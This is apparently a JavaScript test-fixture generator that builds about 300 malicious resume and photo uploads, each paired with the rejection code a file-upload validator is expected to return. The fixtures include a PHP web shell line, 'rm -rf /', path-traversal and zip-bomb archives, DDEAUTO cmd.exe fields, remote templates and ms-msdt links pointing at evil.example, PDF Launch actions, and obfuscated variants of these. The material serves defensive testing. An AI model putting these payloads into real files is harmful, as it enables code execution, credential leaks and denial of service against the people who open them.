// Some 300 files that are not what they say, or more than they say. Each with the code it must be
// refused by. Made here, so that no scanner of anybody's takes this repository for what it tests.
import { deflateRawSync, deflateSync } from "node:zlib";

export const text = (s) => Buffer.from(s, "latin1");
export const PDF = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n";

/** A ZIP whose records may lie. An entry: name, content, and what differs. */
export function zip(
  entries,
  { parts, at, before = Buffer.alloc(0), behind = Buffer.alloc(0), gap = Buffer.alloc(0) } = {},
) {
  const [bodies, records] = [[before], []];
  let offset = before.length;
  for (const [name, content, lie = {}] of entries) {
    const packed = lie.stored ? Buffer.from(content) : deflateRawSync(Buffer.from(content));
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(lie.stored ? 0 : 8, 8);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt16LE(Buffer.byteLength(name), 26);
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(0x0314, 4);
    record.writeUInt16LE(lie.flags ?? 0, 8);
    record.writeUInt16LE(lie.method ?? (lie.stored ? 0 : 8), 10);
    record.writeUInt32LE(lie.packed ?? packed.length, 20);
    record.writeUInt32LE(lie.unpacked ?? content.length, 24);
    record.writeUInt16LE(Buffer.byteLength(name), 28);
    record.writeUInt32LE(((lie.mode ?? 0o100644) << 16) >>> 0, 38);
    record.writeUInt32LE(lie.at ?? offset, 42);
    bodies.push(head, Buffer.from(name), packed);
    records.push(record, Buffer.from(name));
    offset += 30 + Buffer.byteLength(name) + packed.length;
  }
  const directory = Buffer.concat(records);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts ?? entries.length, 8);
  end.writeUInt16LE(parts ?? entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at ?? offset, 16);
  return Buffer.concat([...bodies, directory, gap, end, behind]);
}

const TYPES = ["[Content_Types].xml", "<Types/>"];
const DOCUMENT = ["word/document.xml", "<w:document><w:body/></w:document>"];
export const docx = (more = [], lies = {}) => zip([TYPES, DOCUMENT, ...more], lies);
const MIMETYPE = ["mimetype", "application/vnd.oasis.opendocument.text", { stored: true }];
export const odt = (more = [], content = "<office:text/>") => zip([MIMETYPE, ["content.xml", content], ...more]);

/** A compound file: header, table of chains, directory, and the document's first sector. */
export function compound(names, { locked = false, far = false } = {}) {
  const sectors = [];
  const tables = far ? 8 : 1;
  const table = Buffer.alloc(512 * tables, 0xff);
  const entries = names.map((name, i) => {
    const entry = Buffer.alloc(128);
    entry.write(name, 0, "utf16le");
    entry[66] = i === 0 ? 5 : ["Macros", "VBA"].includes(name) ? 1 : 2;
    return entry;
  });
  const spaces = far ? 400 : 0;
  const directory = [];
  for (let i = 0; i < entries.length; i += 4)
    directory.push(
      Buffer.concat([
        ...entries.slice(i, i + 4),
        ...Array.from({ length: Math.max(0, 4 - (entries.length - i)) }, () => Buffer.alloc(128)),
      ]),
    );
  const document = Buffer.alloc(512);
  document.set([0xec, 0xa5], 0);
  if (locked) document[11] = 1;
  sectors.push(table, document, ...Array.from({ length: spaces }, () => Buffer.alloc(512, 0x20)));
  const first = sectors.length - 1 + tables;
  directory.forEach((sector, i) => {
    table.writeUInt32LE(i + 1 < directory.length ? first + i + 1 : 0xfffffffe, (first + i) * 4);
    sectors.push(sector);
  });
  sectors.push(...Array.from({ length: far ? 400 : 1 }, () => Buffer.alloc(512, 0x20)));
  for (const i of entries.keys())
    if (names[i] === "WordDocument") directory[Math.floor(i / 4)].writeUInt32LE(tables, (i % 4) * 128 + 116);
  const header = Buffer.alloc(512);
  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  header.writeUInt16LE(9, 30);
  header.writeUInt32LE(first, 48);
  header.fill(0xff, 76);
  for (let i = 0; i < tables; i += 1) header.writeUInt32LE(i, 76 + i * 4);
  return Buffer.concat([header, ...sectors]);
}

export function png(width, height) {
  const bytes = Buffer.from("89504e470d0a1a0a0000000d4948445200000000000000000802000000", "hex");
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

export function jpeg(width, height, before = 0) {
  const frame = Buffer.from("ffc00011080000000003010000020000030000", "hex");
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  const segments = Array.from({ length: before }, () =>
    Buffer.concat([Buffer.from("ffe1ea60", "hex"), Buffer.alloc(59_998)]),
  );
  return Buffer.concat([Buffer.from("ffd8", "hex"), ...segments, frame, Buffer.from("ffd9", "hex")]);
}

export const relation = (kind, target = "https://evil.example/x.dotm") =>
  `<Relationships><Relationship Id="rId1" \
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" \
TargetMode="External"/></Relationships>`;

/** The files: row of the hazards, name, bytes, code, and the slot they are sent for. */
export function hostile() {
  const files = [];
  const add = (row, name, bytes, code, slot = "resume") =>
    files.push({ row, name, bytes: Buffer.isBuffer(bytes) ? bytes : text(bytes), code, slot });

  // A12: something else under a name that is accepted.
  const foreign = {
    program: "MZ\x90\0\x03\0\0\0",
    elf: "\x7fELF\x02\x01\x01\0",
    mach: "\xcf\xfa\xed\xfe\x07\0\0\x01",
    java: "\xca\xfe\xba\xbe\0\0\0\x34",
    html: "<html><script>alert(1)</script>",
    doctype: "  \n<!DOCTYPE html>",
    svg: '<svg onload="alert(1)">',
    php: "<?php system($_GET[0]);",
    shell: "#!/bin/sh\nrm -rf /",
    script: "<script>alert(1)</script>",
    xml: '<?xml version="1.0"?><x/>',
    rar: "Rar!\x1a\x07\x01\0",
    seven: "7z\xbc\xaf\x27\x1c\0\x04",
    gzip: "\x1f\x8b\x08\0\0\0\0\0",
  };
  for (const [, bytes] of Object.entries(foreign)) {
    // Word opens pages and XML under its old extension, so programs export them so: they have a sentence.
    const isExport = [foreign.html, foreign.doctype, foreign.svg, foreign.script, foreign.xml].includes(bytes);
    for (const extension of ["pdf", "docx", "doc", "odt", "rtf"])
      add("A12", `cv.${extension}`, bytes, extension === "doc" && isExport ? "file_markup" : "file_content");
  }
  for (const kind of ["program", "elf", "mach", "java", "html", "doctype", "svg", "php", "shell", "script", "xml"])
    add("A12", "cv.txt", foreign[kind], "file_content");
  for (const kind of ["program", "html", "svg"])
    for (const name of ["me.png", "me.jpg"]) add("A12", name, foreign[kind], "file_content", "photo");
  for (const name of [
    "cv.pdf.exe",
    "cv.exe",
    "cv.pdf.",
    "cv.pdf ",
    "cv.pdf::$DATA",
    ".pdf.js",
    "cv.html",
    "cv.svg",
    "cv.docm",
    "cv.xlsm",
    "cv.pdf\u00a0",
    "cv.scr",
    "cv.lnk",
  ])
    add("A12", name, PDF, "file_kind");

  // A13: two files in one.
  add("A13", "cv.pdf", Buffer.concat([text(PDF), docx()]), "file_unsafe");
  add("A13", "cv.pdf", Buffer.concat([text(PDF), docx(), text("\n%%EOF")]), "file_unsafe");
  add("A13", "cv.pdf", docx([], { before: text(PDF) }), "file_unsafe");
  add("A13", "cv.pdf", "%PDF-1.7\n<html><body onload=alert(1)>", "file_unsafe");
  add("A13", "cv.pdf", "%PDF-1.7\n<script>alert(1)</script>", "file_unsafe");
  add("A13", "cv.pdf", "%PDF-1.7\n<?php system($_GET[0]);", "file_unsafe");
  add("A13", "cv.pdf", " ".repeat(1030) + PDF, "file_content");
  add("A13", "cv.pdf", "<html>" + PDF, "file_content");
  add("A13", "cv.docx", Buffer.concat([text(PDF), docx()]), "file_unsafe");
  add("A13", "cv.docx", Buffer.concat([docx(), text("%PDF-1.7")]), "file_content");
  add("A13", "me.jpg", Buffer.concat([jpeg(10, 10), docx()]), "file_unsafe", "photo");
  add("A13", "me.png", Buffer.concat([png(10, 10), docx()]), "file_unsafe", "photo");
  add("A13", "cv.rtf", Buffer.concat([docx(), text("{\\rtf1}")]), "file_content");
  add("A13", "cv.txt", "\xef\xbb\xbf<html><script>alert(1)</script>", "file_content");
  add("A13", "cv.txt", Buffer.from("\ufeff<svg onload=alert(1)>", "utf16le"), "file_content");
  add("A13", "cv.docx", zip([TYPES, ["xl/workbook.xml", "<x/>"]]), "file_content");
  add("A13", "cv.docx", zip([TYPES, ["ppt/presentation.xml", "<x/>"]]), "file_content");
  add(
    "A13",
    "cv.odt",
    zip([
      ["mimetype", "application/vnd.oasis.opendocument.spreadsheet", { stored: true }],
      ["content.xml", "<x/>"],
    ]),
    "file_content",
  );

  // A14: archives that explode, lead out, or lie.
  const part = "word/media/a.xml";
  add("A14", "cv.docx", docx([[part, "x", { unpacked: 100_000_000 }]]), "file_unsafe");
  add("A14", "cv.docx", docx([[part, "x", { unpacked: 0xffffffff, packed: 0xffffffff }]]), "file_unsafe");
  for (let i = 1; i <= 4; i += 1)
    add(
      "A14",
      "cv.docx",
      docx(
        Array.from({ length: i * 40 }, (_, n) => [
          `word/media/${n}.bin`,
          Buffer.alloc(30_000, n),
          { stored: true, unpacked: 4_900_000 },
        ]),
      ),
      "file_unsafe",
    );
  add("A14", "cv.docx", docx([[part, Buffer.alloc(40_000_000)]]), "file_unsafe");
  for (const name of [
    "../../etc/passwd",
    "/etc/passwd",
    "word/../../x",
    "word\\..\\x",
    "C:\\x",
    "word/a\0b.xml",
    "a/..",
    "..\\x",
  ])
    add("A14", "cv.docx", docx([[name, "x"]]), "file_unsafe");
  for (const name of ["word/42.zip", "word/x.EXE", "x.dll", "word/a.js", "a.vbs", "a.bat", "a.lnk"])
    add("A14", "cv.docx", docx([[name, "x"]]), "file_unsafe");
  add("A14", "cv.docx", docx([[part, "x", { at: 0 }]]), "file_unsafe");
  add(
    "A14",
    "cv.docx",
    docx([
      [part, "x", { at: 20 }],
      ["word/b.xml", "x", { at: 21 }],
    ]),
    "file_unsafe",
  );
  add("A14", "cv.docx", docx([], { parts: 60_000 }), "file_unsafe");
  add("A14", "cv.docx", docx([], { parts: 0xffff, at: 0xffffffff }), "file_unsafe");
  add("A14", "cv.docx", docx([], { gap: Buffer.alloc(10) }), "file_unsafe");
  add("A14", "cv.docx", docx([["word/link.xml", "/etc/passwd", { mode: 0o120777 }]]), "file_unsafe");
  add("A14", "cv.docx", docx([["word/footer9.xml", "x", { method: 14 }]]), "file_unsafe");
  add("A14", "cv.docx", docx([], { behind: Buffer.alloc(4097) }), "file_content");
  add("A14", "cv.docx", "PK\x03\x04 and no end", "file_content");
  add("A14", "cv.odt", odt([["Pictures/../../x", "x"]]), "file_unsafe");
  add("A14", "cv.odt", odt([["Pictures/a.png", "x", { unpacked: 140_000_000 }]]), "file_unsafe");

  // A15: macros, objects, templates and scripts.
  for (const name of ["word/vbaProject.bin", "word/other/vbaProject.bin"])
    add("A15", "cv.docx", docx([[name, "x"]]), "file_macros");
  for (const name of ["Basic/Standard/Module1.xml", "Basic/script-lc.xml"])
    add("A15", "cv.odt", odt([[name, "x"]]), "file_macros");
  add(
    "A15",
    "cv.odt",
    odt([], '<office:text><script:event-listener xlink:href="vnd.sun.star.script:x?language=Basic"/></office:text>'),
    "file_macros",
  );
  add(
    "A15",
    "cv.odt",
    odt(
      [],
      '<office:text><text:section><office:dde-source office:dde-application="soffice"/></text:section></office:text>',
    ),
    "file_unsafe",
  );
  add(
    "A15",
    "cv.odt",
    odt([
      [
        "META-INF/manifest.xml",
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>',
      ],
    ]),
    "file_encrypted",
  );
  for (const kind of ["attachedTemplate", "oleObject", "subDocument", "frame"])
    add("A15", "cv.docx", docx([["word/_rels/settings.xml.rels", relation(kind)]]), "file_unsafe");
  for (const name of ["word/header1.xml", "word/footer2.xml", "word/document9.xml"])
    add(
      "A15",
      "cv.docx",
      docx([[name, "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>"]]),
      "file_unsafe",
    );
  for (const name of ["word/embeddings/oleObject1.bin", "word/activeX/activeX1.bin", "word/activeX/activeX1.xml"])
    add("A15", "cv.docx", docx([[name, "x"]]), "file_unsafe");
  add("A15", "cv.docx", docx([[part, "x", { flags: 1 }]]), "file_encrypted");
  add("A15", "cv.docx", compound(["Root Entry", "EncryptedPackage", "EncryptionInfo"]), "file_encrypted");
  for (const far of [false, true]) {
    add("A15", "cv.doc", compound(["Root Entry", "Workbook"], { far }), "file_content");
    add("A15", "cv.doc", compound(["Root Entry", "PowerPoint Document"], { far }), "file_content");
    add("A15", "cv.doc", compound(["Root Entry", "__properties_version1.0"], { far }), "file_content");
  }
  const words = [
    "/JavaScript",
    "/J#61vaScript",
    "/#4a#61#76#61#53#63#72#69#70#74",
    "/Launch",
    "/L#61unch",
    "/RichMedia",
  ];
  for (const word of words) {
    for (const filler of [0, 70_000, 400_000])
      add(
        "A15",
        "cv.pdf",
        `${PDF}${"x".repeat(filler)}3 0 obj<</S${word}/JS(app.alert(1))>>endobj${"x".repeat(filler)}\n%%EOF`,
        "file_unsafe",
      );
  }
  for (const filler of [0, 70_000, 400_000])
    add(
      "A15",
      "cv.pdf",
      `${PDF}${"x".repeat(filler)}trailer<</Encrypt 9 0 R>>${"x".repeat(filler)}\n%%EOF`,
      "file_encrypted",
    );
  for (const word of ["objdata", "objupdate", "objautlink"])
    for (const filler of [0, 400_000])
      add(
        "A15",
        "cv.rtf",
        `{\\rtf1 ${"x".repeat(filler)}{\\object\\${word} 0105}${"x".repeat(filler)}}`,
        "file_unsafe",
      );

  // A44: words that are hidden by how they are written.
  const field = (runs) =>
    `<w:hdr><w:fldChar \
w:fldCharType="begin"/>${runs.map((run) => `<w:instrText>${run}</w:instrText>`).join("")}<w:fldChar \
w:fldCharType="end"/></w:hdr>`;
  for (const runs of [
    ["D", "DEAUTO excel"],
    ["ddeauto excel"],
    ["&#68;DE excel"],
    ["&#x44;D", "E excel"],
    ["<![CDATA[DDE excel]]>"],
    ['INCLUDEPICTURE "\\\\evil.example\\a.png"'],
    ['INCLUDETEXT "https://evil.example/a.docx"'],
  ]) {
    for (const part of ["header1", "footnotes", "endnotes", "comments"])
      add("A44", "cv.docx", docx([[`word/${part}.xml`, field(runs)]]), "file_unsafe");
  }
  add(
    "A44",
    "cv.docx",
    docx([["word/footer1.xml", '<w:ftr><w:fldSimple w:instr="DDE excel"/></w:ftr>']]),
    "file_unsafe",
  );
  const template = relation("attachedTemplate");
  const written = [
    Buffer.from(`\ufeff${template}`, "utf16le"),
    Buffer.from(`\ufeff${template}`, "utf16le").swap16(),
    template.replace("attachedTemplate", "attachedTemplat&#101;"),
    template.replace("https", "&#104;ttps"),
    template.replace("https:", "ht&#9;tps:"),
  ];
  for (const xml of written) add("A44", "cv.docx", docx([["word/_rels/settings.xml.rels", xml]]), "file_unsafe");
  add("A44", "cv.docx", docx([["WORD/_RELS/SETTINGS.XML.RELS", template]]), "file_unsafe");
  for (const target of [
    "\\\\evil.example\\s\\t.dotm",
    "file://evil.example/t.dotm",
    "ftp://evil.example/t.dotm",
    "mhtml:http://evil.example/t",
    "//evil.example/t.dotm",
  ])
    add(
      "A44",
      "cv.docx",
      docx([["word/_rels/settings.xml.rels", relation("attachedTemplate", target)]]),
      "file_unsafe",
    );
  add(
    "A44",
    "cv.docx",
    docx([
      ["word/_rels/aaa.xml.rels", `<r>${"y".repeat(17_000_000)}</r>`],
      ["word/_rels/settings.xml.rels", template],
    ]),
    "file_unsafe",
  );
  add("A44", "cv.docx", docx([["word/_rels/document.xml.rels", relation("aFChunk")]]), "file_unsafe");
  add(
    "A44",
    "cv.docx",
    docx([
      ["word/_rels/document.xml.rels", relation("aFChunk", "a.dat").replace("External", "Internal")],
      ["word/a.dat", "{\\rtf1}"],
    ]),
    "file_unsafe",
  );
  add(
    "A44",
    "cv.docx",
    docx([["word/_rels/document.xml.rels", relation("hyperlink", "ms-msdt:/id x")]]),
    "file_unsafe",
  );
  for (const name of ["a.docm", "a.hta", "a.scr", "a.ps1", "a.msi", "a.iso", "a.jse", "a.cmd", "a.LNK"])
    add("A44", "cv.docx", docx([[`word/embeddings/${name}`, "x"]]), "file_unsafe");
  for (const inside of [
    "{\\*\\template http://evil.example/t.dotm}",
    "{\\field{\\*\\fldinst {\\b D}{\\i DE}AUTO excel}}",
    "{\\field{\\*\\fldinst \\'44\\'44E excel}}",
    "{\\field{\\*\\fldinst \\u68?DE excel}}",
    "{\\object\\objhtml x}",
    "{\\*\\datastore 0105000002000000080000005061636b61676500}",
  ])
    add("A44", "cv.rtf", `{\\rtf1 ${inside}}`, "file_unsafe");
  const scripts = [
    "/S%x\n/Launch/F(cmd.exe)",
    `/S${" ".repeat(60)}/L#61unch`,
    "/JS%x\n(app.alert(1))",
    "/#4a#53<6170702e616c657274283129>",
    "/JS 9 0 R",
  ];
  for (const script of scripts) add("A44", "cv.pdf", `${PDF}3 0 obj<<${script}>>endobj\n%%EOF`, "file_unsafe");
  const stream = (inside, filter = "/FlateDecode") =>
    Buffer.concat([
      text(`${PDF}1 0 obj<</Type/ObjStm/N 1/First 4/Filter${filter}>>stream\n`),
      deflateSync(text(`2 0 ${inside}`)),
      text("\nendstream endobj\n%%EOF"),
    ]);
  for (const inside of scripts) add("A44", "cv.pdf", stream(`<<${inside}>>`), "file_unsafe");
  add("A44", "cv.pdf", stream("<<>>", "[/ASCII85Decode/FlateDecode]"), "file_unsafe");
  add("A44", "cv.pdf", stream(" ".repeat(7_000_000)), "file_unsafe");
  for (const inside of [
    '<draw:object xlink:href="http://evil.example/x"/>',
    '<text:section-source xlink:href="http://evil.example/x"/>',
    '<draw:image xlink:href="//evil.example/me.png"/>',
    "<text:dde-connection-decl/>",
  ])
    add("A44", "cv.odt", odt([], `<office:text>${inside}</office:text>`), "file_unsafe");
  add("A44", "cv.odt", odt([["Scripts/python/a.py", "x"]]), "file_macros");

  // A16: pictures of more pixels than memory holds.
  for (const [width, height] of [
    [50_000, 50_000],
    [65_535, 65_535],
    [0x7fffffff, 2],
    [0xffffffff, 0xffffffff],
  ])
    add("A16", "me.png", png(width, height), "file_pixels", "photo");
  for (const before of [0, 1, 4]) add("A16", "me.jpg", jpeg(65_535, 65_535, before), "file_pixels", "photo");
  add("A16", "me.png", png(0, 10), "file_content", "photo");
  add("A16", "me.jpg", Buffer.from("ffd8ffd9", "hex"), "file_content", "photo");
  return files;
}
